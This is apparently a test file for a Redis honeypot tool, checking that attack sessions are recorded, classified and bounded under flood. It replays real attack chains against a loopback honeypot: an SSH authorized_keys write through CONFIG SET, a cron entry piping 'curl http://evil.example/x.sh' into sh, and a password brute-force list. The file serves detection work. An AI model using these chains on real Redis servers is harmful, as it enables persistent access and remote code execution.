/**
 * `redscope honeypot` as an operator runs it: listeners, real clients and attack sessions over
 * TCP on loopback, sessions and events in the store and JSONL, classified; and a flood that must
 * not take the sensor down.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { SourceBudget } from "../src/honeypot/session-recorder.js";
import { openStore } from "../src/store/index.js";
import { parseJsonl, runCli, watchRss } from "./helpers/cli.js";
import {
  converse,
  type RunningHoneypot,
  readRows,
  startHoneypot,
} from "./helpers/honeypot-process.js";

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "redscope-honeypot-"));

function resp(...args: string[]): Buffer {
  return Buffer.from(
    `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join("")}`,
  );
}

after(() => fs.rmSync(tmp, { recursive: true, force: true }));

/** A well-formed ssh-rsa public key blob (e = 65537, a random 2048-bit n), base64. */
function sshRsaBlob(): string {
  const field = (b: Buffer): Buffer => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(b.length);
    return Buffer.concat([len, b]);
  };
  const n = Buffer.concat([Buffer.from([0]), randomBytes(256)]);
  n[1] = (n[1] ?? 0) | 0x80;
  return Buffer.concat([
    field(Buffer.from("ssh-rsa")),
    field(Buffer.from([1, 0, 1])),
    field(n),
  ]).toString("base64");
}

describe("redscope honeypot", () => {
  const db = path.join(tmp, "hp.db");
  const jsonl = path.join(tmp, "hp.jsonl");
  let hp: RunningHoneypot;

  before(async () => {
    hp = await startHoneypot([
      "--listen",
      "127.0.0.1:0/redis-5.0-open",
      "--listen",
      "127.0.0.1:0/redis-7.4-password",
      "--db",
      db,
      "-o",
      jsonl,
    ]);
  });
  // A test that failed (or was filtered out) before stopping it must not leave it running.
  after(() => {
    if (hp.child.exitCode === null) hp.child.kill("SIGKILL");
  });

  test("an SSH-key write, a brute force and a scan are recorded and classified", async () => {
    const open = hp.ports.get("redis-5.0-open")!;
    const locked = hp.ports.get("redis-7.4-password")!;
    const key = `ssh-rsa ${sshRsaBlob()} attacker@evil`;
    const chain = await converse(open, [
      resp("FLUSHALL"),
      resp("SET", "crackit", `\n\n${key}\n\n`),
      resp("CONFIG", "SET", "dir", "/root/.ssh"),
      resp("CONFIG", "SET", "dbfilename", "authorized_keys"),
      resp("SAVE"),
      resp("QUIT"),
    ]);
    assert.equal(chain, "+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n");

    const brute = await converse(
      locked,
      ["123456", "password", "redis", "admin", "foobared"].map((p) => resp("AUTH", p)),
    );
    assert.equal(
      (brute.match(/-WRONGPASS invalid username-password pair or user is disabled\.\r\n/g) ?? [])
        .length,
      5,
    );

    // The project's own scanner sees a Redis 5.0.8 that answers everything.
    const scan = await runCli([
      "scan",
      `127.0.0.1:${open}`,
      "--allow-reserved",
      "-q",
      "--no-db",
      "-o",
      "-",
      "--no-intel",
    ]);
    assert.equal(scan.code, 0, scan.stderr);
    const [r] = parseJsonl(scan.stdout);
    assert.equal(r?.state, "open");
    assert.equal(r?.server?.version, "5.0.8");

    const stopped = await hp.stop();
    assert.equal(stopped.code, 0, stopped.out);
    assert.match(stopped.out, /stopped: 3 sessions/);

    const store = await openStore(db);
    try {
      const sessions = [];
      for await (const s of store.honeypotSessions()) sessions.push(s);
      assert.equal(sessions.length, 3);
      const write = sessions.find((s) => s.persona === "redis-5.0-open" && s.commands === 6)!;
      assert.match(write.classes, /file_write_ssh/);
      assert.match(write.classes, /destructive|ransom/);
      const rec = write.record as {
        findings: Array<{ class: string; attack: string[] }>;
        indicators: { ssh_keys: string[]; file_paths: string[] };
      };
      assert.deepEqual(rec.findings.find((f) => f.class === "file_write_ssh")?.attack, [
        "T1098.004",
      ]);
      assert.equal(rec.indicators.ssh_keys.length, 1);
      assert.ok(rec.indicators.file_paths.includes("/root/.ssh"), rec.indicators.file_paths.join());
      const bf = sessions.find((s) => s.persona === "redis-7.4-password")!;
      assert.match(bf.classes, /bruteforce/);
      assert.deepEqual(
        (bf.record as { indicators: { passwords: string[] } }).indicators.passwords,
        ["123456", "password", "redis", "admin", "foobared"],
      );
      const probe = sessions.find((s) => s.persona === "redis-5.0-open" && s.commands !== 6)!;
      assert.equal(probe.classes, "scan");
      const events = await store.honeypotEvents(write.id);
      assert.deepEqual(
        events.filter((e) => e.kind === "command").map((e) => e.name),
        ["FLUSHALL", "SET", "CONFIG", "CONFIG", "SAVE", "QUIT"],
      );
      assert.equal(events[0]?.kind, "connect");
      assert.equal(events[events.length - 1]?.kind, "close");
    } finally {
      await store.close();
    }
    const lines = parseJsonl(fs.readFileSync(jsonl, "utf8")) as unknown as Array<{ type: string }>;
    assert.ok(lines.some((l) => l.type === "session"));
    assert.ok(lines.filter((l) => l.type === "event").length >= 15);

    // The report's honeypot section over the same store.
    const rep = await runCli(["report", "--honeypot", "--db", db]);
    assert.equal(rep.code, 0, rep.stderr);
    // 6 in the chain, 5 AUTHs, and the scanner's PING, HELLO, INFO, QUIT.
    assert.match(rep.stdout, /3 sessions from 1 address, 15 commands/);
    assert.match(rep.stdout, /file_write_ssh\s+T1098\.004\s+1\s+1/);
    assert.match(rep.stdout, /bruteforce\s+T1110\.001\s+1\s+1/);
    assert.match(rep.stdout, /127\.0\.0\.1\s+3\s+15\s/);
    for (const pw of ["123456", "password", "redis", "admin", "foobared"]) {
      assert.match(rep.stdout, new RegExp(`\\n${pw}\\s+1\\n`));
    }
    assert.match(rep.stdout, /ssh_keys\s+SHA256:/);
    const json = JSON.parse(
      (await runCli(["report", "--honeypot", "--db", db, "-f", "json"])).stdout,
    ) as { sessions: number; classes: Array<{ class: string }> };
    assert.equal(json.sessions, 3);
    const later = await runCli(["report", "--honeypot", "--db", db, "--since", "2099-01-01"]);
    assert.match(later.stdout, /0 sessions from 0 addresses/);
    const bad = await runCli(["report", "--honeypot", "--db", db, "--since", "yesterday"]);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /^redscope: --since "yesterday": use YYYY-MM-DD/);
  });
});

describe("redscope honeypot under a flood", () => {
  test("1 GB of PUBLISH and huge SETs from one client; 1,000 others still answered; RSS bounded", async (t) => {
    const db = path.join(tmp, "flood.db");
    // Every visitor here comes from 127.0.0.1: the per-source cap is raised above the 51 at once.
    const hp = await startHoneypot([
      "--listen",
      "127.0.0.1:0/redis-7.0-open",
      "--db",
      db,
      "-q",
      "--max-per-source",
      "100",
    ]);
    const port = hp.ports.get("redis-7.0-open")!;
    const rss = watchRss(hp.child.pid!);
    try {
      const chunk = Buffer.alloc(64 * 1024, 0x78);
      const publish = Buffer.concat([
        Buffer.from(`*3\r\n$7\r\nPUBLISH\r\n$4\r\nleak\r\n$${chunk.length}\r\n`),
        chunk,
        Buffer.from("\r\n"),
      ]);
      const bigSet = (i: number, size: number): Buffer[] => [
        Buffer.from(`*3\r\n$3\r\nSET\r\n$3\r\nbig\r\n$${size}\r\n`.replace("big", `bg${i}`)),
      ];
      const TOTAL = 1024 * 1024 * 1024;
      const flooder = new Promise<{ sent: number; publishes: number }>((resolve, reject) => {
        const sock = net.connect({ host: "127.0.0.1", port });
        let sent = 0;
        let publishes = 0;
        sock.on("error", reject);
        // Replies are read and dropped: the flood is about input.
        sock.on("data", () => {});
        sock.on("connect", async () => {
          // Four 100 MB values, streamed in 1 MB pieces.
          for (let i = 0; i < 4; i++) {
            const size = 100 * 1024 * 1024;
            for (const b of bigSet(i, size)) sock.write(b);
            const piece = Buffer.alloc(1024 * 1024, 0x41 + i);
            for (let k = 0; k < 100; k++) {
              if (!sock.write(piece)) await new Promise((r) => sock.once("drain", r));
            }
            sock.write("\r\n");
            sent += size;
          }
          while (sent < TOTAL) {
            if (!sock.write(publish)) await new Promise((r) => sock.once("drain", r));
            sent += publish.length;
            publishes++;
          }
          sock.end(resp("PING"));
          sock.on("close", () => resolve({ sent, publishes }));
        });
      });
      // Meanwhile 1,000 other visitors come and go, 50 at a time; each must get its PONG.
      let answered = 0;
      for (let wave = 0; wave < 20; wave++) {
        const replies = await Promise.all(
          // Answered late is still answered: the flood may slow replies, not stop them.
          Array.from({ length: 50 }, () => converse(port, [resp("PING")], 100, 10_000)),
        );
        answered += replies.filter((r) => r.startsWith("+PONG\r\n")).length;
      }
      const { publishes } = await flooder;
      assert.equal(answered, 1000, "every other visitor was answered during the flood");
      const stopped = await hp.stop();
      assert.equal(stopped.code, 0, stopped.out);
      const peak = rss.stop();
      t.diagnostic(`peak RSS ${Math.round(peak / 1048576)} MB, ${publishes} PUBLISH of 64 KB`);
      assert.ok(peak < 300 * 1024 * 1024, `peak RSS ${Math.round(peak / 1048576)} MB < 300 MB`);

      const store = await openStore(db);
      try {
        const sessions = [];
        for await (const s of store.honeypotSessions()) sessions.push(s);
        assert.equal(sessions.length, 1001);
        const flood = sessions.find((s) => s.commands > 1000)!;
        assert.equal(flood.commands, publishes + 4 + 1, "every command counted");
        assert.ok(flood.bytesIn >= TOTAL);
        assert.match(flood.classes, /exfiltration/);
        const events = await store.honeypotEvents(flood.id);
        assert.equal(
          events.filter((e) => e.kind === "command").length,
          flood.commands,
          "every command recorded as an event",
        );
        const set = events.find((e) => e.name === "SET")!;
        const rec = set.record as { lengths: number[]; sha256: Array<string | null> };
        assert.equal(rec.lengths[1], 100 * 1024 * 1024, "the full length is kept");
        assert.match(rec.sha256[1] ?? "", /^[0-9a-f]{64}$/, "and the hash of the whole value");
      } finally {
        await store.close();
      }
    } finally {
      rss.stop();
      if (hp.child.exitCode === null) hp.child.kill("SIGKILL");
    }
  });
});

/** A honeypot on one redis-6.2-open listener recording to a JSONL file only. */
async function jsonlHoneypot(file: string, extra: string[] = []): Promise<RunningHoneypot> {
  return startHoneypot(["--listen", "127.0.0.1:0/redis-6.2-open", "--no-db", "-o", file, ...extra]);
}

describe("redscope honeypot: repetition folding", () => {
  test("a flood of plain data commands becomes counts; a payload in the flood is still recorded", async () => {
    const jsonl = path.join(tmp, "fold.jsonl");
    const hp = await jsonlHoneypot(jsonl);
    const port = hp.ports.get("redis-6.2-open")!;
    const cron = "\n\n*/1 * * * * curl -fsSL http://evil.example/x.sh | sh\n\n";
    const requests: Buffer[] = [];
    for (let i = 0; i < 1200; i++) requests.push(resp("SET", `key:${i}`, "xxx"));
    for (let i = 0; i < 300; i++) requests.push(resp("GET", `key:${i}`));
    for (let i = 0; i < 200; i++) requests.push(resp("PUBLISH", "news", `msg-${i}`));
    requests.push(
      resp("SET", "x", cron),
      resp("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"),
      resp("CONFIG", "SET", "dbfilename", "root"),
      resp("SAVE"),
      resp("QUIT"),
    );
    const replies = await converse(port, [Buffer.concat(requests)], 1000);
    assert.equal((replies.match(/\+OK\r\n/g) ?? []).length, 1200 + 1 + 2 + 1 + 1);
    const stopped = await hp.stop();
    assert.equal(stopped.code, 0, stopped.out);

    const rows = readRows<Record<string, unknown>>(jsonl);
    const session = rows.filter((r) => r.type === "session").at(-1) as {
      commands: number;
      classes: string;
      record: {
        events_recorded: number;
        folded: Record<string, { count: number; args: number }>;
        command_counts: Record<string, number>;
        findings: Array<{ class: string; evidence: string[] }>;
        indicators: { urls: string[]; cron_lines: string[] };
      };
    };
    const commands = rows.filter((r) => r.type === "event" && r.kind === "command") as Array<{
      name: string;
      record: { args: string[] };
    }>;
    assert.equal(session.commands, 1705);
    // The first 256 commands are all recorded; after that SET, GET and PUBLISH fold once
    // 100 of each were recorded; the payload and the file-write chain never fold.
    assert.deepEqual(session.record.folded, {
      SET: { count: 1200 - 256, args: 2 * (1200 - 256) },
      GET: { count: 200, args: 200 },
      PUBLISH: { count: 100, args: 200 },
    });
    const folded = 1200 - 256 + 200 + 100;
    assert.equal(session.record.events_recorded, 1705 - folded);
    assert.equal(commands.length, 1705 - folded);
    assert.deepEqual(session.record.command_counts, {
      SET: 1201,
      GET: 300,
      PUBLISH: 200,
      CONFIG: 2,
      SAVE: 1,
      QUIT: 1,
    });
    assert.ok(commands.some((c) => c.name === "SET" && c.record.args[1] === cron));
    assert.match(session.classes, /file_write_cron/);
    assert.ok(session.record.indicators.urls.includes("http://evil.example/x.sh"));
    // Counts include what was folded: the classifier saw 200 PUBLISH, not the 100 recorded.
    const exfil = session.record.findings.find((f) => f.class === "exfiltration");
    assert.ok(
      exfil?.evidence.some((e) => e.startsWith("200 PUBLISH")),
      JSON.stringify(exfil),
    );
    const close = rows.find((r) => r.type === "event" && r.kind === "close") as {
      record: { folded?: unknown };
    };
    assert.deepEqual(close.record.folded, session.record.folded);
  });

  test("a visitor inventing command names costs at most 256 counters", async () => {
    const jsonl = path.join(tmp, "names.jsonl");
    const hp = await jsonlHoneypot(jsonl);
    const port = hp.ports.get("redis-6.2-open")!;
    const requests = Array.from({ length: 300 }, (_, i) => resp(`NOPE${i}`));
    const replies = await converse(port, [Buffer.concat([...requests, resp("QUIT")])], 1000);
    assert.equal((replies.match(/^-ERR unknown command/gm) ?? []).length, 300);
    assert.equal((await hp.stop()).code, 0);
    type Row = {
      type: string;
      commands?: number;
      record: { command_counts?: Record<string, number> };
    };
    const session = readRows<Row>(jsonl)
      .filter((r) => r.type === "session")
      .at(-1)!;
    assert.equal(session.commands, 301);
    const counts = session.record.command_counts!;
    assert.equal(Object.keys(counts).length, 257);
    assert.equal(counts.NOPE0, 1);
    assert.equal(counts["(other)"], 300 + 1 - 256);
  });

  test("--record-all records every command", async () => {
    const jsonl = path.join(tmp, "all.jsonl");
    const hp = await jsonlHoneypot(jsonl, ["--record-all"]);
    const port = hp.ports.get("redis-6.2-open")!;
    const requests: Buffer[] = [];
    for (let i = 0; i < 1500; i++) requests.push(resp("SET", `key:${i}`, "xxx"));
    requests.push(resp("QUIT"));
    await converse(port, [Buffer.concat(requests)], 1000);
    assert.equal((await hp.stop()).code, 0);
    const rows = readRows<{ type: string; kind?: string; record: { folded?: unknown } }>(jsonl);
    assert.equal(rows.filter((r) => r.kind === "command").length, 1501);
    assert.equal(rows.filter((r) => r.type === "session").at(-1)?.record.folded, undefined);
  });
});

describe("redscope honeypot: per-source bounds", () => {
  test("past --max-per-source a visitor gets Redis's max-clients error, unrecorded", async () => {
    const jsonl = path.join(tmp, "per-source.jsonl");
    const hp = await jsonlHoneypot(jsonl, ["--max-per-source", "2"]);
    const port = hp.ports.get("redis-6.2-open")!;
    const open = await Promise.all(
      [0, 1].map(
        () =>
          new Promise<net.Socket>((resolve, reject) => {
            const s = net.connect({ host: "127.0.0.1", port }, () => resolve(s));
            s.on("error", reject);
          }),
      ),
    );
    try {
      // Both are accepted before the third arrives: a PING round trip on each.
      for (const s of open) {
        await new Promise<void>((resolve) => {
          s.once("data", () => resolve());
          s.write(resp("PING"));
        });
      }
      const third = await converse(port, [resp("PING")], 500);
      assert.equal(third, "-ERR max number of clients reached\r\n");
    } finally {
      for (const s of open) s.destroy();
    }
    const stopped = await hp.stop();
    assert.equal(stopped.code, 0, stopped.out);
    assert.match(stopped.out, /1 refused over limits/);
    const sessions = readRows<{ type: string }>(jsonl).filter((r) => r.type === "session");
    // Two sessions, each written at start and at its end; the refused one left nothing.
    assert.equal(new Set(sessions.map((r) => (r as unknown as { id: string }).id)).size, 2);
  });

  test("--source-bytes: a source past its hourly budget is answered but not recorded, then refused", async () => {
    const jsonl = path.join(tmp, "budget.jsonl");
    const hp = await jsonlHoneypot(jsonl, ["--source-bytes", "1k"]);
    const port = hp.ports.get("redis-6.2-open")!;
    // The connection's event and the first PINGs fit in 1 KB as written; the rest are answered.
    const requests = Array.from({ length: 10 }, () => resp("PING"));
    const replies = await converse(port, [Buffer.concat([...requests])], 500);
    assert.equal((replies.match(/\+PONG\r\n/g) ?? []).length, 10);
    // Its budget is spent: the next connection is turned away as by a full server.
    assert.equal(
      await converse(port, [resp("PING")], 500),
      "-ERR max number of clients reached\r\n",
    );
    assert.equal((await hp.stop()).code, 0);
    type Row = {
      type: string;
      kind?: string;
      commands?: number;
      record: { over_source_budget?: number; events_recorded?: number };
    };
    const rows = readRows<Row>(jsonl);
    const session = rows.filter((r) => r.type === "session").at(-1)!;
    const pings = rows.filter((r) => r.kind === "command");
    assert.equal(session.commands, 10);
    assert.ok(pings.length >= 1 && pings.length < 10, `${pings.length} PINGs recorded`);
    assert.equal(session.record.over_source_budget, 10 - pings.length);
    assert.equal(session.record.events_recorded, pings.length);
    assert.equal(rows.filter((r) => r.kind === "connect").length, 1);
  });
});

describe("redscope honeypot: idle timeout", () => {
  test("a silent visitor is closed after --idle-timeout, and the limit is recorded", async () => {
    const jsonl = path.join(tmp, "idle.jsonl");
    const hp = await jsonlHoneypot(jsonl, ["--idle-timeout", "1s"]);
    const port = hp.ports.get("redis-6.2-open")!;
    const started = Date.now();
    // converse returns when the server closes (or after 5 s of silence: the failure case).
    const got = await converse(port, [resp("PING")], 5000, 5000);
    const waited = Date.now() - started;
    assert.equal(got, "+PONG\r\n");
    assert.ok(waited >= 900 && waited < 4000, `closed after ${waited} ms`);
    assert.equal((await hp.stop()).code, 0);
    const limits = readRows<{ kind?: string; record: { limit?: string } }>(jsonl).filter(
      (r) => r.kind === "limit",
    );
    assert.deepEqual(
      limits.map((r) => r.record.limit),
      ["idle"],
    );
  });
});

describe("SourceBudget", () => {
  test("a burst of the hour's allowance in bytes, refilled evenly; sources remembered are bounded", () => {
    // 3,600 bytes an hour: one a second.
    const b = new SourceBudget(3600, 4);
    assert.ok(b.has("a", 0));
    b.spend("a", 0, 3000);
    assert.ok(b.has("a", 0), "600 bytes left");
    b.spend("a", 0, 1000);
    assert.equal(b.has("a", 0), false, "a record is counted whole: 400 bytes overdrawn");
    assert.equal(b.has("a", 300_000), false, "five minutes give 300 bytes back: still short");
    assert.ok(b.has("a", 500_000), "after 500 s there is some again");
    assert.ok(b.has("b", 0), "other sources have their own allowance");
    // A fifth source makes room: b, c, d have refilled by then and are forgotten, a is not.
    for (const ip of ["c", "d"]) b.has(ip, 0);
    assert.equal(b.size, 4);
    assert.ok(b.has("e", 600_000));
    assert.equal(b.size, 2);
    b.spend("a", 600_000, 10_000);
    assert.equal(b.has("a", 600_000), false, "a's spent budget is still remembered");
    const free = new SourceBudget(0);
    free.spend("x", 0, 1e12);
    assert.ok(free.has("x", 0), "0: no limit");
    // Nobody has refilled: the oldest are forgotten down to half, once, not per new source.
    const full = new SourceBudget(10, 4);
    for (const ip of ["a", "b", "c", "d"]) full.spend(ip, 0, 1);
    assert.ok(full.has("e", 0));
    assert.equal(full.size, 3, "a and b forgotten, e added");
    assert.ok(full.has("f", 0));
    assert.equal(full.size, 4, "room left: no walk over the others");
  });
});

describe("redscope honeypot: what the operator must fix", () => {
  test("each is one line on stderr, exit 2, and no store is made for a bad flag", async () => {
    const db = path.join(tmp, "config-errors.db");
    const cases: Array<{ args: string[]; says: RegExp }> = [
      {
        args: ["--listen", "127.0.0.1:0/no-such-persona"],
        says: /^redscope: unknown persona no-such-persona \(see --list-personas\)$/,
      },
      {
        args: ["--listen", "127.0.0.1:0/redis-7.0-open", "--accept-password", "pw"],
        says: /^redscope: --accept-password applies to password personas, and none is listening$/,
      },
      {
        args: ["--listen", "tls:127.0.0.1:0/redis-7.0-open"],
        says: /^redscope: tls: listeners need --tls-cert and --tls-key$/,
      },
    ];
    for (const c of cases) {
      const r = await runCli(["honeypot", ...c.args, "--db", db, "--duration", "1s"]);
      assert.equal(r.code, 2, `${c.args.join(" ")}: ${r.stderr}`);
      const lines = r.stderr.trim().split("\n");
      assert.equal(lines.length, 1, r.stderr);
      assert.match(lines[0]!, c.says);
      assert.equal(fs.existsSync(db), false, "the store is opened only once the flags hold");
    }
  });

  test("a port in use: one line, exit 2, the store closed", async () => {
    const busy = net.createServer();
    await new Promise<void>((resolve) => busy.listen(0, "127.0.0.1", resolve));
    const port = (busy.address() as net.AddressInfo).port;
    try {
      const r = await runCli([
        "honeypot",
        "--listen",
        `127.0.0.1:${port}/redis-7.0-open`,
        "--db",
        path.join(tmp, "busy.db"),
      ]);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr.trim(), /^redscope: cannot listen: EADDRINUSE \(port in use\)$/);
    } finally {
      busy.close();
    }
  });
});
